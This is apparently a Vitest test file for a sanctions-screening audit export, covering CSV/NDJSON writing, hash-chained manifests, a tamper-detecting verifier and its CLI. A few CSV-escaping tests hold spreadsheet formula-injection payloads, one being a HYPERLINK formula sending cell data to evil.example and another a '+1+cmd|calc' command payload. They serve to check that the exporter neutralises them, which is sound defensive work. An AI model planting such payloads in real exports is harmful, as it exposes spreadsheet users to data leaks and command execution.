import { createHash } from 'node:crypto';
import { createWriteStream } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CsvRecordReader } from '../../src/audit/csv-record-reader.js';
import { createExportWriter, encodeExport } from '../../src/audit/export-writer.js';
import { runVerifyExportCli, verifyExportFile, verifyExportStream, type VerifyExportResult } from '../../src/audit/verify-export.js';
import {
  EXPORT_CSV_COLUMNS,
  csvField,
  formatCsvRow,
  parseManifestLine,
  toExportRow,
  type ExportFilter,
  type ExportFormat,
  type ExportRow,
} from '../../src/domain/audit/export-format.js';
import { chainOf, decision, sealChain } from './audit-fixtures.js';

const NO_FILTER: ExportFilter = { from: null, to: null, outcome: null };
const GENERATED_AT = '2025-02-01T00:00:00.000Z';
const sha256 = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');

function exportRows(length: number): ExportRow[] {
  return chainOf(length).map((row, index) => toExportRow(row, index === 0 ? { status: 'closed', disposition: 'false_positive' } : null));
}

async function exportText(rows: readonly ExportRow[], format: ExportFormat, filter: ExportFilter = NO_FILTER): Promise<string> {
  const chunks: Buffer[] = [];
  await pipeline(Readable.from(rows), createExportWriter(format, { filter, generatedAt: GENERATED_AT }), async function* (source) {
    for await (const chunk of source) chunks.push(chunk as Buffer);
  });
  return Buffer.concat(chunks).toString('utf8');
}

async function verifyText(text: string | Buffer, chunkSize = 7): Promise<VerifyExportResult> {
  const bytes = Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8');
  const chunks: Buffer[] = [];
  for (let offset = 0; offset < bytes.length; offset += chunkSize) chunks.push(bytes.subarray(offset, offset + chunkSize));
  return verifyExportStream(Readable.from(chunks));
}

const codes = (result: VerifyExportResult) => result.problems.map((problem) => problem.code);

/** Lines of a file with their line ends, so edits keep the rest byte for byte. */
const linesOf = (text: string) => text.split(/(?<=\n)/);

describe('export rows', () => {
  test('maps a stored decision: rule and indicator ids once each, list versions sorted, case columns', () => {
    const [row] = sealChain([decision(2, { hits: [{ ruleId: 'a', ruleVersion: 1, indicatorIds: ['i1', 'i2'], points: 1, field: '/f' }, { ruleId: 'b', ruleVersion: 1, indicatorIds: ['i2', 'i3'], points: 0, field: '/f' }, { ruleId: 'a', ruleVersion: 1, indicatorIds: [], points: 0, field: '/g' }] })]);
    expect(toExportRow(row!, { status: 'open', disposition: null })).toEqual({
      sequence: 1,
      createdAt: '2025-01-31T09:00:03.000Z',
      decisionId: row!.id,
      tenantId: row!.tenantId,
      externalRef: 'contractor-2',
      outcome: 'review',
      score: 74,
      ruleIds: ['a', 'b'],
      indicatorIds: ['i1', 'i2', 'i3'],
      rulesetVersion: 3,
      listVersions: [
        { source: 'ofac-sdn', version: 7, contentDigest: 'a'.repeat(64) },
        { source: 'un-1718', version: 2, contentDigest: 'b'.repeat(64) },
      ],
      caseStatus: 'open',
      caseDisposition: null,
      prevHash: row!.prevHash,
      hash: row!.hash,
    });
    expect(toExportRow(row!)).toMatchObject({ caseStatus: null, caseDisposition: null });
  });

  test.each<[string | number | null, string]>([
    [null, ''],
    ['', '""'],
    ['plain', 'plain'],
    [42, '42'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r\nlf', '"cr\r\nlf"'],
    [' spaced ', ' spaced '],
    ['김정은', '김정은'],
    // Spreadsheet formulas (OWASP CSV injection): a leading apostrophe, quoting as usual.
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'],
    ['+1+cmd|calc', "'+1+cmd|calc"],
    ['-2+3', "'-2+3"],
    ['@SUM(1,2)', '"\'@SUM(1,2)"'],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', '"\'\rcmd"'],
    // An apostrophe already there gets one more, so a reader always removes exactly one.
    ["'quoted", "''quoted"],
    ['a=b', 'a=b'],
    [-5, '-5'],
  ])('CSV field %j is written %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });
});

describe('export writer', () => {
  test('CSV: header, one CRLF record per row with RFC 4180 quoting, then the manifest', async () => {
    const rows = exportRows(2);
    rows[0] = { ...rows[0]!, externalRef: null };
    rows[1] = { ...rows[1]!, externalRef: 'ACME, "Ltd"\nBranch 2' };
    const text = await exportText(rows, 'csv');
    expect(text.startsWith(`${EXPORT_CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    const [r0, r1] = rows as [ExportRow, ExportRow];
    const lists = `ofac-sdn@7:${'a'.repeat(64)};un-1718@2:${'b'.repeat(64)}`;
    expect(text).toContain(`\r\n1,${r0.createdAt},${r0.decisionId},${r0.tenantId},,clear,37,,,3,${lists},closed,false_positive,${'0'.repeat(64)},${r0.hash}\r\n`);
    expect(text).toContain(
      `\r\n2,${r1.createdAt},${r1.decisionId},${r1.tenantId},"ACME, ""Ltd""\nBranch 2",review,74,sanctions-name-match,ofac-sdn-match;un-1718-match,3,` +
        `${lists},,,${r0.hash},${r1.hash}\r\n`,
    );
    const manifestStart = text.lastIndexOf('#manifest,');
    const body = text.slice(0, manifestStart);
    expect(body).toBe(`${EXPORT_CSV_COLUMNS.join(',')}\r\n${formatCsvRow(rows[0]!)}${formatCsvRow(rows[1]!)}`);
    const manifest = parseManifestLine('csv', text.slice(manifestStart));
    expect(manifest).toEqual({
      ok: true,
      manifest: {
        format: 'redflag.decision-export',
        formatVersion: 3,
        rows: 2,
        firstHash: rows[0]!.hash,
        lastHash: rows[1]!.hash,
        bodySha256: sha256(body),
        filter: NO_FILTER,
        generatedAt: GENERATED_AT,
      },
    });
    expect(text.endsWith('}"\r\n')).toBe(true);
  });

  test('CSV is readable by an ordinary CSV parser, which can skip the manifest as a comment', async () => {
    const rows = exportRows(3);
    rows[1] = { ...rows[1]!, externalRef: 'x,"y"\r\nz' };
    const text = await exportText(rows, 'csv');
    const records = parseCsv(text, { columns: true, comment: '#' }) as Record<string, string>[];
    expect(records).toHaveLength(3);
    expect(records[1]!.external_ref).toBe('x,"y"\r\nz');
    expect(records.map((record) => record.hash)).toEqual(rows.map((row) => row.hash));
    const raw = parseCsv(text, { relax_column_count: true }) as string[][];
    expect(raw.at(-1)![0]).toBe('#manifest');
    expect(JSON.parse(raw.at(-1)![1]!)).toMatchObject({ rows: 3 });
  });

  test('CSV cells a spreadsheet would run get an apostrophe; the file verifies; NDJSON keeps the value byte for byte', async () => {
    const rows = exportRows(3);
    rows[0] = { ...rows[0]!, externalRef: '=HYPERLINK("http://evil.example","x")' };
    rows[1] = { ...rows[1]!, externalRef: "'already" };
    rows[2] = { ...rows[2]!, externalRef: '@SUM(1,2)' };
    const csv = await exportText(rows, 'csv');
    const records = parseCsv(csv, { columns: true, comment: '#' }) as Record<string, string>[];
    expect(records.map((record) => record.external_ref)).toEqual(['\'=HYPERLINK("http://evil.example","x")', "''already", "'@SUM(1,2)"]);
    // One leading apostrophe removed gives every value back.
    expect(records.map((record) => record.external_ref!.slice(1))).toEqual(rows.map((row) => row.externalRef));
    expect(await verifyText(csv)).toMatchObject({ ok: true, rows: 3 });
    const ndjson = await exportText(rows, 'ndjson');
    expect(ndjson.split('\n').slice(0, 3).map((line) => (JSON.parse(line) as { externalRef: string }).externalRef)).toEqual(rows.map((row) => row.externalRef));
    expect(await verifyText(ndjson)).toMatchObject({ ok: true, rows: 3 });
  });

  test('manifests of format versions 1 (cells written verbatim) and 2 (no chain head or checkpoints) still read; an unknown version does not', () => {
    const manifest = { format: 'redflag.decision-export', formatVersion: 1, rows: 0, firstHash: null, lastHash: null, bodySha256: '0'.repeat(64), filter: NO_FILTER, generatedAt: GENERATED_AT };
    expect(parseManifestLine('ndjson', JSON.stringify({ manifest }))).toMatchObject({ ok: true });
    expect(parseManifestLine('ndjson', JSON.stringify({ manifest: { ...manifest, formatVersion: 2 } }))).toMatchObject({ ok: true });
    expect(parseManifestLine('ndjson', JSON.stringify({ manifest: { ...manifest, formatVersion: 4 } }))).toMatchObject({ ok: false });
  });

  test('NDJSON: one JSON object per row, then {"manifest": …}', async () => {
    const rows = exportRows(3);
    rows[2] = { ...rows[2]!, externalRef: 'line\nbreak, "quoted"' };
    const text = await exportText(rows, 'ndjson', { from: '2025-01-01T00:00:00.000Z', to: null, outcome: null });
    const lines = text.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(4);
    expect(lines.slice(0, 3).map((line) => JSON.parse(line))).toEqual(rows);
    expect(Object.keys(JSON.parse(lines[0]!) as object)).toEqual(Object.keys(rows[0]!));
    const manifest = JSON.parse(lines[3]!) as { manifest: Record<string, unknown> };
    expect(Object.keys(manifest)).toEqual(['manifest']);
    expect(manifest.manifest).toMatchObject({ rows: 3, firstHash: rows[0]!.hash, lastHash: rows[2]!.hash, bodySha256: sha256(`${lines.slice(0, 3).join('\n')}\n`) });
    expect(manifest.manifest.filter).toEqual({ from: '2025-01-01T00:00:00.000Z', to: null, outcome: null });
  });

  test.each<ExportFormat>(['csv', 'ndjson'])('%s: an empty export still has a manifest (and the CSV header)', async (format) => {
    const text = await exportText([], format);
    const manifestLine = format === 'csv' ? text.slice(text.indexOf('#manifest')) : text;
    expect(parseManifestLine(format, manifestLine)).toMatchObject({ ok: true, manifest: { rows: 0, firstHash: null, lastHash: null } });
    expect((await verifyText(text)).ok).toBe(true);
  });

  test('the async-generator form gives the same bytes and returns the manifest', async () => {
    const rows = exportRows(4);
    const chunks: Buffer[] = [];
    const generator = encodeExport(rows, 'ndjson', { filter: NO_FILTER, generatedAt: GENERATED_AT });
    let step = await generator.next();
    while (!step.done) {
      chunks.push(step.value);
      step = await generator.next();
    }
    expect(Buffer.concat(chunks).toString('utf8')).toBe(await exportText(rows, 'ndjson'));
    expect(step.value).toMatchObject({ rows: 4, lastHash: rows[3]!.hash });
  });
});

describe('offline export verifier', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'redflag-audit-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  test.each<ExportFormat>(['csv', 'ndjson'])('%s: accepts a good file streamed to disk', async (format) => {
    const rows = exportRows(50);
    rows[7] = { ...rows[7]!, externalRef: 'multi\r\nline, "ref" with #manifest, inside' };
    const file = path.join(dir, `good.${format}`);
    let written: unknown;
    await pipeline(Readable.from(rows), createExportWriter(format, { filter: NO_FILTER, generatedAt: GENERATED_AT, onManifest: (m) => (written = m) }), createWriteStream(file));
    const result = await verifyExportFile(file);
    expect(result).toMatchObject({ ok: true, format, rows: 50, problems: [], problemCount: 0 });
    expect(result.manifest).toEqual(written);
    expect(result.bodySha256).toBe(result.manifest?.bodySha256);
  });

  test('accepts a good file however it is split into chunks', async () => {
    const rows = exportRows(6);
    rows[2] = { ...rows[2]!, externalRef: '"a",\n"b"\r\n,c' };
    const texts = { csv: await exportText(rows, 'csv'), ndjson: await exportText(rows, 'ndjson') };
    await fc.assert(
      fc.asyncProperty(fc.constantFrom<ExportFormat>('csv', 'ndjson'), fc.integer({ min: 1, max: 300 }), async (format, chunkSize) => {
        const result = await verifyText(texts[format], chunkSize);
        expect(result).toMatchObject({ ok: true, rows: 6 });
      }),
      { numRuns: 60 },
    );
  });

  test('accepts an export filtered by outcome, whose sequence has legitimate gaps', async () => {
    const rows = exportRows(9).filter((row) => row.outcome === 'block');
    const result = await verifyText(await exportText(rows, 'csv', { from: null, to: null, outcome: 'block' }));
    expect(result).toMatchObject({ ok: true, rows: 3 });
  });

  test('accepts a multi-tenant export with interleaved chains', async () => {
    const other = '01890a5d-ffff-7000-8000-000000000000';
    const a = chainOf(3);
    const b = sealChain([decision(10, { tenantId: other }), decision(11, { tenantId: other })]);
    const rows = [a[0]!, b[0]!, a[1]!, b[1]!, a[2]!].map((row) => toExportRow(row));
    expect(await verifyText(await exportText(rows, 'ndjson'))).toMatchObject({ ok: true, rows: 5 });
  });

  type Edit = (lines: string[]) => string[];
  /** Changes one line; a negative index counts from the end (-1: the manifest). */
  const replaceLine =
    (index: number, change: (line: string) => string): Edit =>
    (lines) =>
      lines.map((line, i) => (i === (index < 0 ? lines.length + index : index) ? change(line) : line));

  test.each<[string, ExportFormat, Edit, string[]]>([
    ['one altered score (CSV)', 'csv', replaceLine(2, (line) => line.replace(',review,74,', ',review,7,')), ['body_digest_mismatch']],
    ['one altered score (NDJSON)', 'ndjson', replaceLine(1, (line) => line.replace('"score":74', '"score":7')), ['body_digest_mismatch']],
    ['an altered row hash', 'ndjson', replaceLine(2, (line) => line.replace(/"hash":"[0-9a-f]{64}"/, `"hash":"${'e'.repeat(64)}"`)), ['prev_link_mismatch', 'body_digest_mismatch']],
    ['a deleted row (CSV)', 'csv', (lines) => lines.filter((_, i) => i !== 2), ['sequence_gap', 'row_count_mismatch', 'body_digest_mismatch']],
    ['reordered rows', 'ndjson', (lines) => [lines[0]!, lines[2]!, lines[1]!, ...lines.slice(3)], ['sequence_gap', 'sequence_order', 'body_digest_mismatch']],
    ['a file truncated mid-row (CSV)', 'csv', (lines) => [...lines.slice(0, 3), lines[3]!.slice(0, 40)], ['malformed_row', 'missing_manifest']],
    ['a file truncated mid-row (NDJSON)', 'ndjson', (lines) => [...lines.slice(0, 3), lines[3]!.slice(0, 40)], ['malformed_row', 'missing_manifest']],
    ['a file truncated at a line end', 'ndjson', (lines) => lines.slice(0, 4), ['missing_manifest']],
    ['a missing manifest (CSV)', 'csv', (lines) => lines.slice(0, -1), ['missing_manifest']],
    ['an altered manifest row count', 'csv', replaceLine(-1, (line) => line.replace('""rows"":5', '""rows"":6')), ['row_count_mismatch']],
    ['an altered manifest last hash', 'ndjson', replaceLine(-1, (line) => line.replace(/"lastHash":"[0-9a-f]{64}"/, `"lastHash":"${'d'.repeat(64)}"`)), ['last_hash_mismatch']],
    ['an altered manifest digest', 'ndjson', replaceLine(-1, (line) => line.replace(/"bodySha256":"[0-9a-f]{64}"/, `"bodySha256":"${'d'.repeat(64)}"`)), ['body_digest_mismatch']],
    ['a manifest that is not JSON', 'ndjson', replaceLine(-1, (line) => line.replace('"rows":5', '"rows":5,,')), ['invalid_manifest']],
    ['a manifest with a wrong field type', 'ndjson', replaceLine(-1, (line) => line.replace('"rows":5', '"rows":"5"')), ['invalid_manifest']],
    ['rows appended after the manifest', 'ndjson', (lines) => [...lines, lines[1]!], ['manifest_not_last', 'sequence_order', 'missing_manifest']],
    ['a row outside the filter', 'ndjson', replaceLine(-1, (line) => line.replace('"to":null', '"to":"2025-01-31T09:00:04.000Z"')), ['row_outside_filter']],
    ['a broken CSV row', 'csv', replaceLine(1, (line) => line.replace(',clear,', ',"cl"ear,')), ['malformed_row', 'body_digest_mismatch']],
    ['a changed CSV header', 'csv', replaceLine(0, (line) => line.replace('score', 'points')), ['bad_header', 'body_digest_mismatch']],
  ])('names the problem in a file with %s', async (_name, format, edit, expected) => {
    const rows = exportRows(5);
    const lines = linesOf(await exportText(rows, format));
    const result = await verifyText(edit(lines).join(''));
    expect(result.ok).toBe(false);
    expect(codes(result).sort()).toEqual([...expected].sort());
    for (const problem of result.problems) expect(problem.message).toEqual(expect.any(String));
  });

  test('points at the line of a problem', async () => {
    const lines = linesOf(await exportText(exportRows(5), 'ndjson'));
    lines[3] = lines[3]!.replace(/"prevHash":"[0-9a-f]{64}"/, `"prevHash":"${'c'.repeat(64)}"`);
    const result = await verifyText(lines.join(''));
    expect(result.problems.find((problem) => problem.code === 'prev_link_mismatch')).toMatchObject({ line: 4, sequence: 4 });
  });

  test.each([
    ['an empty file', ''],
    ['an unrelated file', 'name,age\r\nbob,3\r\n'],
  ])('refuses %s as an unknown format', async (_name, text) => {
    expect(codes(await verifyText(text))).toEqual(['unknown_format']);
  });

  test('stops at an over-long line instead of buffering it', async () => {
    const result = await verifyExportStream(Readable.from([Buffer.from('{"sequence":1,'), Buffer.alloc(5000, 0x20)]), { maxLineBytes: 1024 });
    expect(result.problems).toEqual([expect.objectContaining({ code: 'line_too_long', line: 1 })]);
  });

  test('keeps a bounded number of problems but counts them all', async () => {
    const rows = exportRows(30);
    const lines = linesOf(await exportText(rows, 'ndjson')).slice(0, -1);
    const broken = lines.map((line) => line.replace(/"prevHash":"[0-9a-f]{64}"/, `"prevHash":"${'c'.repeat(64)}"`));
    const result = await verifyExportStream(Readable.from([broken.join('')]), { maxProblems: 5 });
    expect(result.problems).toHaveLength(5);
    expect(result.problemCount).toBe(29 + 1);
  });

  test('verifies 20,000 rows with flat memory use', async () => {
    const [first] = exportRows(1);
    function* many(): Generator<ExportRow> {
      let prevHash = first!.prevHash;
      for (let sequence = 1; sequence <= 20_000; sequence += 1) {
        const hash = sha256(`row-${sequence}`);
        yield { ...first!, sequence, prevHash, hash };
        prevHash = hash;
      }
    }
    const file = path.join(dir, 'many.csv');
    await pipeline(Readable.from(many()), createExportWriter('csv', { filter: NO_FILTER, generatedAt: GENERATED_AT }), createWriteStream(file));
    const result = await verifyExportFile(file);
    expect(result).toMatchObject({ ok: true, rows: 20_000 });
  });
});

describe('CSV record reader', () => {
  test('reads quoted fields across lines and flags malformed ones', () => {
    const reader = new CsvRecordReader();
    const records = [...reader.feed('a,"b\r\n'), ...reader.feed('c""d",e\r\n'), ...reader.feed('x"y,z\n'), ...reader.feed('"p"q,r\r\n'), ...reader.feed('last')];
    expect(records).toEqual([
      { fields: ['a', 'b\r\nc"d', 'e'], line: 1 },
      { fields: ['x"y', 'z'], line: 3, error: 'quote inside an unquoted field' },
      { fields: ['p', 'r'], line: 4, error: 'text after a closing quote' },
    ]);
    expect(reader.end()).toEqual({ fields: ['last'], line: 5, error: 'record not ended by a line break' });
  });
});

describe('audit verify-export CLI', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'redflag-audit-cli-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  function sinks() {
    const out: string[] = [];
    const err: string[] = [];
    return { out, err, stdout: { write: (text: string) => out.push(text) }, stderr: { write: (text: string) => err.push(text) } };
  }

  test('exit 0 and a summary for a good file', async () => {
    const file = path.join(dir, 'good.ndjson');
    await writeFile(file, await exportText(exportRows(3), 'ndjson'));
    const io = sinks();
    expect(await runVerifyExportCli([file], io.stdout, io.stderr)).toBe(0);
    expect(io.out.join('')).toMatch(/^OK .*good\.ndjson: ndjson, 3 rows/);
    expect(io.err).toEqual([]);
  });

  test('exit 1 and the named problems for a tampered file; --json gives the full result', async () => {
    const file = path.join(dir, 'bad.csv');
    const text = await exportText(exportRows(3), 'csv');
    await writeFile(file, text.replace(',review,74,', ',clear,74,'));
    const io = sinks();
    expect(await runVerifyExportCli([file], io.stdout, io.stderr)).toBe(1);
    expect(io.out.join('')).toContain('body_digest_mismatch');
    const json = sinks();
    expect(await runVerifyExportCli(['--json', file], json.stdout, json.stderr)).toBe(1);
    expect(JSON.parse(json.out.join('')) as VerifyExportResult).toMatchObject({ ok: false, rows: 3, format: 'csv' });
  });

  test('exit 2 for usage errors and unreadable files', async () => {
    const io = sinks();
    expect(await runVerifyExportCli([], io.stdout, io.stderr)).toBe(2);
    expect(await runVerifyExportCli(['--bogus', 'x'], io.stdout, io.stderr)).toBe(2);
    expect(await runVerifyExportCli([path.join(dir, 'missing.csv')], io.stdout, io.stderr)).toBe(2);
    expect(io.err.join('')).toMatch(/cannot read .*missing\.csv/);
  });
});
